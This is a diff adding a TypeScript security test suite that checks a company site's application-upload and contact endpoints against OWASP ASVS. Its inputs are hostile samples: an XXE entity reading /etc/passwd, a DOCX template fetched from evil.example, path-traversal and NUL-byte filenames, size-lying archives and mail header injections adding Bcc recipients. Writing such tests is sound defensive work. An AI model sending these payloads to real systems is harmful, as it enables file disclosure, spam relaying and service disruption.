@@ -1,0 +1,148 @@
+import { makeZip } from 'client-zip'
+import { newApplicant, newEnquiry } from '../support/answers.ts'
+import { expect, test } from '../support/attack-test.ts'
+import type { Answer, Ask } from '../support/attacker.ts'
+import { pdf } from '../support/files.ts'
+import { mailsAbout } from '../support/outbox.ts'
+
+/** OWASP ASVS 5.0, V1.2 Injection Prevention, V5.2 File Upload: what strangers send to the company. */
+const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
+const TYPES = { name: '[Content_Types].xml', input: `<Types><Override ContentType="${WORD}"/></Types>` }
+const DOCUMENT = { name: 'word/document.xml', input: '<w:document/>' }
+const cv = pdf('cv.pdf').buffer
+
+type Entry = typeof TYPES
+
+const zipOf = async (...entries: Entry[]) => Buffer.from(await new Response(makeZip(entries)).arrayBuffer())
+const docx = (...entries: Entry[]) => zipOf(TYPES, DOCUMENT, ...entries)
+
+/** The directory's word for the size of its first entry. */
+function claiming(size: number, archive: Buffer): Buffer {
+  const entry = archive.indexOf('PK\x01\x02')
+  archive.writeUInt32LE(size, entry + 24)
+  return archive
+}
+
+interface Sent {
+  name?: string
+  bytes?: Uint8Array | string
+  registration?: unknown
+  more?: readonly (readonly [field: string, value: string | File])[]
+}
+
+const file = (name: string, bytes: Uint8Array | string, type = 'application/pdf') =>
+  new File([typeof bytes === 'string' ? bytes : new Uint8Array(bytes)], name, { type })
+
+function apply(ask: Ask, { name = 'cv.pdf', bytes = cv, registration, more = [] }: Sent): Promise<Answer> {
+  const form = new FormData()
+  form.append('cv', file(name, bytes))
+  const typed = registration === undefined ? newApplicant() : registration
+  form.append('registration', typeof typed === 'string' ? typed : JSON.stringify(typed))
+  for (const [field, value] of more) form.append(field, value)
+  return ask('/api/applications', { method: 'POST', body: form })
+}
+
+test('a CV is what its name says, whole, and runs nothing', async ({ ask }) => {
+  const bad: Record<string, readonly [name: string, bytes: Uint8Array | string]> = {
+    'an empty file': ['cv.pdf', ''],
+    'a PDF that is cut off': ['cv.pdf', cv.subarray(0, 60)],
+    'a page that begins as a PDF': ['cv.pdf', '%PDF-1.7\n<html><script>alert(1)</script>\n%%EOF'],
+    'an archive in a PDF': ['cv.pdf', '%PDF-1.7\nPK\x03\x04\n%%EOF'],
+    'a program': ['cv.pdf', 'MZ\x90\0'],
+    'a page': ['cv.doc', '<html><script>alert(1)</script></html>'],
+    'rich text': ['cv.doc', '{\\rtf1{\\object}}'],
+    'a PDF as a program': ['cv.pdf.exe', cv],
+    'a PDF behind a NUL': ['cv.exe\0.pdf', 'MZ'],
+    'a PDF as a page': ['cv.html', cv],
+    'a PDF as a document': ['cv.docx', cv],
+    'a name without an extension': ['cv', cv],
+    'a document of macros': ['cv.docx', await docx({ name: 'word/vbaProject.bin', input: 'x' })],
+    'a document that leaves its folder': ['cv.docx', await docx({ name: '../../evil', input: 'x' })],
+    'a document that reads a file': [
+      'cv.docx',
+      await docx({ name: 'a.rels', input: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }),
+    ],
+    'a document with a template from elsewhere': [
+      'cv.docx',
+      await docx({
+        name: 'word/_rels/settings.xml.rels',
+        input: '<Relationship Type="http://x/attachedTemplate" Target="http://evil.example" TargetMode="External"/>',
+      }),
+    ],
+    'a document of 2,000 parts': [
+      'cv.docx',
+      await docx(...Array.from({ length: 2000 }, (_, n) => ({ name: `${n}`, input: '' }))),
+    ],
+    'a document of 2 GiB, by its own word': ['cv.docx', claiming(2 ** 31, await docx())],
+    'a document that is cut off': ['cv.docx', (await docx()).subarray(0, -30)],
+    'an archive that is no document': ['cv.docx', await zipOf({ name: 'a', input: 'x' })],
+    'an old document that is cut off': ['cv.doc', Buffer.from('d0cf11e0a1b11ae1', 'hex')],
+  }
+  for (const [what, [name, bytes]] of Object.entries(bad)) {
+    const answer = await apply(ask, { name, bytes })
+    expect.soft(answer.status, `${what}: ${answer.text}`).toBe(415)
+  }
+  for (const name of ['cv.pdf', 'CV.PDF', '../../cv.pdf', 'C:\\fakepath\\cv.pdf']) {
+    expect.soft((await apply(ask, { name })).status, name).toBe(201)
+  }
+})
+
+test('an application has its own parts, each once, and no more than they may count', async ({ ask }) => {
+  const nested = `${'['.repeat(4000)}${']'.repeat(4000)}`
+  for (const [what, sent, ...statuses] of [
+    ['another part', { more: [['extra', file('a.pdf', cv)]] }, 400],
+    ['two CVs', { more: [['cv', file('b.pdf', cv)]] }, 400],
+    ['two registrations', { more: [['registration', '{}']] }, 400],
+    ['a trap that was walked into', { more: [['website', 'https://spam.example']] }, 400],
+    ['a prototype', { more: [['__proto__', 'x']] }, 400],
+    ['a cover letter that is a program', { more: [['coverLetter', file('a.pdf', 'MZ')]] }, 415],
+    ['thirty parts', { more: Array.from({ length: 30 }, (_, n) => [`x${n}`, 'x'] as const) }, 413],
+    ['no JSON', { registration: 'ada@example.com' }, 400],
+    ['JSON of a depth of 4,000', { registration: nested }, 400],
+    ['a list', { registration: [newApplicant()] }, 400],
+    ['fields of other types', { registration: { ...newApplicant(), firstName: { toString: 'x' } } }, 400],
+    ['17 KiB of registration', { registration: { ...newApplicant(), message: 'x'.repeat(17_000) } }, 413],
+    ['6 MB of CV', { bytes: Buffer.concat([cv, Buffer.alloc(6e6)]) }, 413],
+    ['20 MB of request', { bytes: Buffer.alloc(2e7) }, 413],
+  ] as const satisfies readonly (readonly [string, Sent, ...number[]])[]) {
+    const answer = await apply(ask, sent)
+    expect.soft(statuses, `${what}: ${answer.status} ${answer.text}`).toContain(answer.status)
+  }
+})
+
+test('what is typed into a form becomes no header of a mail, and no mail to anybody else', async ({ site, ask }) => {
+  const injected = 'x\r\nBcc: all@victims.example\r\n\r\nbody'
+  const send = (body: object) =>
+    ask('/api/contact', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) })
+  const enquiry = newEnquiry()
+  for (const email of [
+    `${enquiry.email}\r\nBcc: all@victims.example`,
+    `${enquiry.email},all@victims.example`,
+    `all@victims.example <${enquiry.email}>`,
+    `"a\\" b"@victims.example`,
+    `${'a'.repeat(300)}@example.com`,
+  ]) {
+    expect.soft((await send({ ...enquiry, email })).status, email.slice(0, 60)).toBe(400)
+  }
+  const sent = {
+    ...enquiry,
+    subject: 'x\r\nBcc: a@victims.example',
+    firstName: 'x\nCc: a@v.example',
+    message: injected,
+  }
+  expect((await send(sent)).status).toBe(201)
+  const applicant = newApplicant()
+  const registration = { ...applicant, subject: injected, role: 'x\r\nTo: a@v.example', message: injected }
+  expect((await apply(ask, { registration })).status).toBe(201)
+  for (const sender of [enquiry.email, applicant.email]) {
+    const { company, receipt } = await mailsAbout(site, sender)
+    for (const mail of [company, receipt]) {
+      const [head = ''] = mail.split('\r\n\r\n')
+      expect(head).not.toMatch(/^(?:bcc|cc):/im)
+      expect(head.match(/^to:/gim)).toHaveLength(1)
+      expect(head).not.toMatch(/^to:.*victims/im)
+    }
+    // Else anybody could write to anybody in the company's name.
+    expect(receipt).not.toContain('victims')
+  }
+})
